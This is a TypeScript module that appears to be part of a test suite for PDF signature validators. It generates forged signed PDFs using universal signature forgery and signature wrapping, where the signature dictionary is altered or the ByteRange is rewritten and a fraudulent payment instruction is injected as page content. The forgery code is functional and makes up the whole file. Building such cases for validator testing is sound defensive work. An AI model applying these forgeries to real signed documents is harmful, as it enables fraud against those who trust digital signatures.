import type { Attack } from './case.ts'
import { latin, Sketch, setEntry, signatureObjects, signaturePlaces, stream } from './sketch.ts'

const evil = 'BT /F1 24 Tf 72 500 Td (Pay 9,000,000 baht to Mallory.) Tj ET'

/** The signature dictionary in a later revision is another (universal signature forgery), or the signed parts are moved. */
export const wrapping: readonly Attack[] = [
  ...forgeries({
    'contents-missing': ['without Contents', { Contents: undefined }],
    'contents-null': ['with Contents null', { Contents: 'null' }],
    'contents-empty': ['with empty Contents', { Contents: '<>' }],
    'contents-zero': ['with Contents of one zero', { Contents: '<00>' }],
    'range-missing': ['without ByteRange', { ByteRange: undefined }],
    'range-null': ['with ByteRange null', { ByteRange: 'null' }],
    'range-empty': ['with an empty ByteRange', { ByteRange: '[]' }],
    'range-zeros': ['with ByteRange [0 0 0 0]', { ByteRange: '[0 0 0 0]' }],
    'range-negative': ['with a negative ByteRange', { ByteRange: '[0 -1 -1 -1]' }],
    'subfilter-unknown': ['with an unknown SubFilter', { SubFilter: '/adbe.unknown' }],
    'subfilter-missing': ['without SubFilter', { SubFilter: undefined }],
  }),
  {
    name: 'copied',
    about: 'a field whose value is a copy of the signed dictionary; the content is another',
    make: (bytes) => overSignature(bytes, {}),
  },
  {
    name: 'moved-gap',
    about: 'signature wrapping: signed parts moved, with other objects between them',
    make: wrap,
  },
  {
    name: 'range-rewritten',
    about: 'the ByteRange in place is shorter, and a revision with other content follows',
    make(bytes) {
      const text = bytes.toString('latin1')
      const place = places(text)
      const [a, b, c] = place.range
      const written = `${`[${a} ${b} ${c} 10`.padEnd(place.rangeEnd - place.rangeStart - 1)}]`
      const changed = Buffer.concat([
        bytes.subarray(0, place.rangeStart),
        latin(written),
        bytes.subarray(place.rangeEnd),
      ])
      return withContent(new Sketch(changed))
    },
  },
  {
    name: 'second-range',
    about: 'the signature dictionary has a second ByteRange entry, in a later revision',
    make(bytes) {
      const s = new Sketch(bytes)
      const [number = 0] = signatureObjects(s.text)
      const twice = s.object(number).replace('<<', `<< /ByteRange [0 ${bytes.length} ${bytes.length} 0] `)
      return s.update({ [number]: twice, ...evilContent(s) })
    },
  },
]

function forgeries(kinds: Record<string, [string, Record<string, string | undefined>]>): Attack[] {
  return Object.entries(kinds).map(([name, [how, entries]]) => ({
    name,
    about: `the signature’s dictionary in a later revision, ${how}; the content is another`,
    make: (bytes) => overSignature(bytes, entries),
  }))
}

function overSignature(bytes: Buffer, entries: Record<string, string | undefined>): Buffer {
  const s = new Sketch(bytes)
  const [number = 0] = signatureObjects(s.text)
  return s.update({ [number]: s.with(number, entries), ...evilContent(s) })
}

function evilContent(s: Sketch): Record<number, string> {
  const [page = 0] = s.pages
  return { [s.contentOf(page)]: stream(evil) }
}

const withContent = (s: Sketch): Buffer => s.update(evilContent(s))

function places(text: string) {
  const place = signaturePlaces(text)[0]
  if (!place) throw new Error('no signature')
  return place
}

/**
 * Signature wrapping (Mainka, Mladenov, Rohlmann: 1 Trillion Dollar Refund): the first signed part, the value, other objects
 * with a table of their own, then the second signed part at the very end. A new dictionary has the new ByteRange.
 */
function wrap(bytes: Buffer): Buffer {
  const s = new Sketch(bytes)
  const place = places(s.text)
  const second = bytes.subarray(place.range[2], place.range[2] + place.range[3])
  const [number = 0] = signatureObjects(s.text)
  const value = bytes.subarray(place.start, place.end)
  let gap = ''
  let end = 0
  // The ByteRange stands in what is measured by it; its length settles after a round or two.
  for (let at = bytes.length; end !== at; ) {
    end = at
    const range = `[0 ${place.start} ${end} ${second.length}]`
    const dictionary = setEntry(
      setEntry(s.object(number), 'ByteRange', range),
      'Contents',
      value.toString('latin1'),
    )
    gap = gapOf(s, place.end, { [number]: dictionary, ...evilContent(s) }, second)
    at = place.end + gap.length
  }
  const file = Buffer.concat([bytes.subarray(0, place.end), latin(gap), second])
  return Buffer.concat([file, latin(`\nstartxref\n${place.end + gap.lastIndexOf('\nxref\n') + 1}\n%%EOF\n`)])
}

function gapOf(s: Sketch, from: number, objects: Record<number, string>, second: Buffer): string {
  // Every object of the first part keeps its offset; those of the second part are not in the table.
  let text = ' >>\nendobj\n'
  const rows = new Map<number, number>()
  const inFirst = s.text.slice(0, from)
  for (const match of inFirst.matchAll(/(?:^|[\r\n])(\d+) 0 obj/g))
    rows.set(Number(match[1]), match.index + (match[0].startsWith('\n') || match[0].startsWith('\r') ? 1 : 0))
  const all = { ...objectsBehind(s, from, second), ...objects }
  for (const [number, content] of Object.entries(all)) {
    rows.set(Number(number), from + text.length)
    text += `${number} 0 obj\n${content}\nendobj\n`
  }
  const sorted = [...rows].sort(([a], [b]) => a - b)
  const table = sorted.map(([n, at]) => `${n} 1\n${String(at).padStart(10, '0')} 00000 n\r\n`).join('')
  text += `\nxref\n0 1\n0000000000 65535 f\r\n${table}trailer\n${setEntry(s.trailer, 'Prev', undefined).trim()}\n%`
  return text
}

function objectsBehind(s: Sketch, from: number, second: Buffer): Record<number, string> {
  const behind = second.toString('latin1')
  const numbers = [...behind.matchAll(/[\r\n](\d+) 0 obj/g)].map((match) => Number(match[1]))
  const before = s.text.slice(0, from)
  return Object.fromEntries(
    numbers.filter((n) => !before.includes(`\n${n} 0 obj`)).map((n) => [n, s.object(n)]),
  )
}
